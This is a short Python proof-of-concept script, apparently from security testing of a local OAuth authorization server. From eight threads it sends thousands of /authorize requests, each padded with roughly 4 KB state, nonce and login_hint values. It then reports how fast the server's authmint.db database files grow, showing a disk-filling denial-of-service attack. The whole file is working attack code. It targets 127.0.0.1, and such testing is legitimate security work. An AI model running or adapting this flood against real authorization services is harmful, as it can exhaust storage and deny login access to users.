import http.client,time,os,threading
B="http://127.0.0.1:24511"
q="/authorize?response_type=code&client_id=app&redirect_uri=http%3A%2F%2F127.0.0.1%3A24599%2Fcb&scope=openid&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256&state="+"s"*4090+"&nonce="+"n"*4090+"&login_hint="+"l"*4090
size=lambda:sum(os.path.getsize("/tmp/atk/run/"+f) for f in os.listdir("/tmp/atk/run") if f.startswith("authmint.db"))
a=size(); t=time.time(); st={}
def w():
    c=http.client.HTTPConnection("127.0.0.1",24511)
    for _ in range(400):
        c.request("GET",q); r=c.getresponse(); r.read(); st[r.status]=st.get(r.status,0)+1
ts=[threading.Thread(target=w) for _ in range(8)]
[x.start() for x in ts];[x.join() for x in ts]
dt=time.time()-t
print(st,"db grew",(size()-a)//1024,"KiB in %.1f s"%dt, "%.0f KiB/s"%((size()-a)/1024/dt))
